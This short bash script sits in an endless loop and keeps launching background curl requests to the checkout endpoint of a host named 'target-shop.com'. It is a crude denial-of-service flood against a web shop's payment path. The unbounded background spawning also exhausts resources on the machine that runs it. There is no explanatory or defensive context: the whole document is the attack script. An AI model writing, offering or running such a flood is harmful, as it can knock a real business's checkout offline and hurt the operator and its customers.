#!/bin/bash
while true; do
  curl -s https://api.target-shop.com/checkout >/dev/null &
done
